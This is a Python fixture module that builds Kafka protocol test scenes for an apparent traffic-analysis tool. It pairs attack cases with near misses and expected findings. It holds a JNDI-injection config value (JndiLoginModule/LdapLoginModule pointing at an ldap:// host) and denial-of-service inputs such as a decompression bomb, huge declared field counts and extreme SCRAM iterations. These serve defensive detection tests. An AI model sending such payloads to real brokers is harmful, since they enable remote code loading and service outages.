"""Scenes of what published advisories are about, and scenes that come near: rows for tests/analysis/test_doctor.py."""

from __future__ import annotations

import gzip
from struct import pack
from typing import Any, Final

from decoders import encode_request
from decoders.protocol_facts.api_keys import (
    API_VERSIONS,
    FETCH,
    METADATA,
    PRODUCE,
    PUSH_TELEMETRY,
    SASL_AUTHENTICATE,
    SASL_HANDSHAKE,
)
from decoders.protocol_facts.kafka_releases import api_versions_of_release
from decoders.records.encode_batches import encode_batch
from decoders.records.record_and_batch import Batch, Record
from decoders.wire.primitive_types import encode_uvarint
from tests.analysis.scenes import BEGUN, FIN, MS, RST, Scene

META: Final = (METADATA, 9)
JNDI: Final = 'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://10.0.0.66/a";'
LDAP: Final = 'com.sun.security.auth.module.LdapLoginModule required userProvider="ldap://10.0.0.66/a";'
# Bytes of a header before its client id, and those of the client id of `ask`.
_HEAD: Final = 10


def offering(release: str, scene: Scene | None = None) -> Scene:
    """A broker that offers what a release does."""
    served = [
        {"api_key": key, "min_version": its.low, "max_version": its.high}
        for key, its in api_versions_of_release(release).items()
    ]
    answer = {"error_code": 0, "api_keys": served}
    return (scene or Scene()).ask(0, (API_VERSIONS, 0), {}, answer, client="app")


def declared_tags(count: int, *, real: bool = False) -> Scene:
    """A request whose header declares tagged fields, which are there (`real`) or are not."""
    whole = len(encode_request(*META, {}, correlation_id=1, client_id="app"))
    body = encode_request(*META, {}, correlation_id=1, client_id="app")[_HEAD + 4 :]
    fields = b"".join(encode_uvarint(tag) + b"\0" for tag in range(count)) if real else b"\0" * 40
    behind = encode_uvarint(count) + fields + (body if real else b"")
    return Scene().ask(0, META, {}, None, cut=whole - _HEAD - 3, behind=behind, ends=FIN)


def declared_elements(count: int) -> Scene:
    """A request whose array declares so many elements, of which none is there."""
    whole = len(encode_request(METADATA, 1, {"topics": []}, correlation_id=1, client_id="app"))
    return Scene().ask(
        0, (METADATA, 1), {"topics": []}, None, cut=whole - _HEAD - 3, behind=pack(">i", count) + b"\0\1a", ends=FIN
    )


def pushed_metrics(size: int) -> Scene:
    """A push of metrics that unpack to so many bytes."""
    pushed = {"compression_type": 1, "metrics": gzip.compress(bytes(size), 9), "subscription_id": 1}
    return Scene().ask(0, (PUSH_TELEMETRY, 0), pushed, {})


def fetched_as(replica: int, client: str) -> Scene:
    return Scene().ask(0, (FETCH, 11), {"replica_id": replica, "topics": []}, {"responses": []}, client=client)


def altered(key: int, value: str) -> Scene:
    """A change of the config `sasl.jaas.config` to a value."""
    config: dict[str, Any] = {"name": "listener.name.sasl.plain.sasl.jaas.config", "value": value}
    resource = {"resource_type": 4, "resource_name": "1", "configs": [config]}
    return Scene().ask(0, (key, 1), {"resources": [resource]}, {"responses": []})


def fetched_snapshot(*partitions: dict[str, Any]) -> Scene:
    topics = [{"name": "__cluster_metadata", "partitions": [*partitions]}] if partitions else []
    return Scene().ask(0, (59, 0), {"replica_id": 1, "topics": topics}, {"topics": []})


def logged_in(release: str | None, mechanism: str = "SCRAM-SHA-256") -> Scene:
    """A handshake in the clear with a broker of a release, or with one that does not say what it serves."""
    scene = offering(release) if release else Scene()
    return scene.ask(1, (SASL_HANDSHAKE, 1), {"mechanism": mechanism}, {"error_code": 0, "mechanisms": [mechanism]})


def challenged(iterations: int, *, name: str = "", version: str = "") -> Scene:
    """A login with SCRAM whose broker asks for so many iterations; the client may name its software."""
    mechanism, first = "SCRAM-SHA-256", b"n,,n=alice,r=abc"
    challenge = b"r=abcdef,s=c2FsdA==,i=%d" % iterations
    scene = Scene()
    if name:
        named = {"client_software_name": name, "client_software_version": version}
        scene.ask(0, (API_VERSIONS, 3), named, {"api_keys": []})
    scene.ask(1, (SASL_HANDSHAKE, 1), {"mechanism": mechanism}, {"error_code": 0, "mechanisms": [mechanism]})
    scene.ask(2, (SASL_AUTHENTICATE, 1), {"auth_bytes": first}, {"error_code": 0, "auth_bytes": challenge})
    return scene.ask(3, (METADATA, 9), {}, {})


def tried(*tries: tuple[float, float | None], scene: Scene | None = None) -> Scene:
    """Tries of one batch: when each began and how long it took, None: its connection ended without an answer."""
    batch = encode_batch([Record(0, BEGUN // MS, None, b"x" * 40)], Batch(producer_id=7, producer_epoch=0))
    asked = {"acks": -1, "topic_data": [{"name": "orders", "partition_data": [{"index": 0, "records": batch}]}]}
    answer = {"responses": [{"name": "orders", "partition_responses": [{"index": 0, "error_code": 0}]}]}
    scene = scene or Scene()
    for number, (began, took) in enumerate(tries, 1):
        if took is None:
            scene.ask(began, (PRODUCE, 8), asked, None, line=number, ends=RST, took=30)
        else:
            scene.ask(began, (PRODUCE, 8), asked, answer, line=number, took=took)
    return scene


def routed(*topics: str, beside: bool = False, scene: Scene | None = None) -> Scene:
    """Batches of one producer with the sequence numbers 0, 1 and so on, each to a topic (`a+b`: to both).

    `beside`: another producer sends the same to `payments`.
    """
    scene = scene or Scene()
    for number, names in enumerate(topics):
        record = Record(0, BEGUN // MS, None, b"x" * (40 + number))
        for at, name in enumerate(names.split("+")):
            for producer in (7, 8) if beside else (7,):
                batch = encode_batch([record], Batch(producer_id=producer, producer_epoch=0, base_sequence=number))
                topic = "payments" if producer == 8 else name
                asked = {
                    "acks": -1,
                    "topic_data": [{"name": topic, "partition_data": [{"index": 0, "records": batch}]}],
                }
                answer = {"name": topic, "partition_responses": [{"index": 0, "error_code": 0}]}
                when = 5 + number + at / 10 + producer / 100
                scene.ask(when, (PRODUCE, 8), asked, {"responses": [answer]})
    return scene


LATE: Final = tried((0, None), (30.1, None), (60.2, None), (90.3, 40))

ATTACK_SCENES: Final[list[tuple[str, Scene, str, str]]] = [
    ("header-tags", declared_tags(1_000_000), "error", "declares 1,000,000 tagged fields in the header of Metadata"),
    ("header-tags", declared_tags(1000, real=True), "error", "app declares 1,000 tagged fields"),
    (
        "array-beyond-frame",
        declared_elements(500_000_000),
        *("warning", "app declares 500,000,000 elements of topics in Metadata to 10.0.0.9:9092, in a request of 20B"),
    ),
    ("telemetry-unpacked", pushed_metrics(20 << 20), "error", "metrics that app pushes to 10.0.0.9:9092"),
    ("replica-claimed", fetched_as(2, "app"), "warning", "app fetches from 10.0.0.9:9092 as replica 2"),
    (
        "jndi-login-module",
        altered(33, JNDI),
        "error",
        "app sets JndiLoginModule in configs of 10.0.0.9:9092: listener.",
    ),
    ("jndi-login-module", altered(44, JNDI), "error", "app sets JndiLoginModule"),
    ("ldap-login-module", altered(44, LDAP), "error", "app sets LdapLoginModule"),
    ("snapshot-fetch-empty", fetched_snapshot(), "warning", "app sends 10.0.0.9:9092 a FetchSnapshot without"),
    (
        "scram-iterations",
        challenged(500_000_000),
        *("error", "10.0.0.9:9092 asks app for 500,000,000 iterations of SCRAM"),
    ),
    ("scram-in-clear", logged_in("3.7"), "warning", "SASL/SCRAM-SHA-256 logins cross to 10.0.0.9:9092 without TLS"),
    ("scram-in-clear", logged_in(None), "warning", "SASL/SCRAM-SHA-256 logins"),
    (
        "batch-misrouted",
        routed("orders", "orders", "orders+invoices", "orders", "orders"),
        *("error", "a batch of app for orders went to invoices as well"),
    ),
    (
        "batch-expired",
        LATE,
        "warning",
        "a batch of app for orders turned 2 minutes old while a request with it was under way",
    ),
    ("batch-expired", tried((0, 121)), "warning", "a batch of app for orders"),
    (
        "batch-expired",
        tried((0, None), (30.1, None), (60.2, None), (90.3, None)),
        "warning",
        "a batch of app for orders",
    ),
]
ATTACK_NEAR: Final[list[tuple[str, Scene]]] = [
    ("header-tags", declared_tags(3, real=True)),
    ("header-tags", declared_elements(500_000_000)),
    ("array-beyond-frame", declared_elements(1000)),
    ("array-beyond-frame", declared_tags(1_000_000)),
    ("telemetry-unpacked", pushed_metrics(1 << 20)),
    ("replica-claimed", fetched_as(-1, "app")),
    ("replica-claimed", fetched_as(2, "broker-2-fetcher-0")),
    ("replica-claimed", fetched_as(2, "ReplicaFetcherThread-0-1")),
    ("jndi-login-module", altered(44, "org.apache.kafka.common.security.plain.PlainLoginModule required;")),
    ("jndi-login-module", altered(44, LDAP)),
    ("ldap-login-module", altered(33, JNDI)),
    ("snapshot-fetch-empty", fetched_snapshot({"partition": 0, "snapshot_id": {"end_offset": 1, "epoch": 1}})),
    ("scram-iterations", challenged(1_000_000)),
    ("scram-iterations", challenged(16_384)),
    ("scram-in-clear", logged_in("3.9")),
    ("scram-in-clear", logged_in("3.7", "PLAIN")),
    ("batch-misrouted", routed(*["orders+invoices"] * 5)),
    ("batch-misrouted", routed("orders+invoices", "orders+invoices", *["orders"] * 6)),
    ("batch-misrouted", routed("orders", "orders", "orders", "orders", beside=True)),
    ("batch-expired", tried((0, None), (30.1, None), (60.2, 20))),
    ("batch-expired", tried((0, 119))),
    ("batch-expired", tried((0, None), (125, 10))),
]
ATTACK_BESIDES: Final = {
    "header-tags": {"request-closed"},
    "scram-iterations": {"scram-in-clear"},
    "array-beyond-frame": {"request-closed"},
    "batch-expired": {"unanswered", "sent-again", "idle-cut"},
}
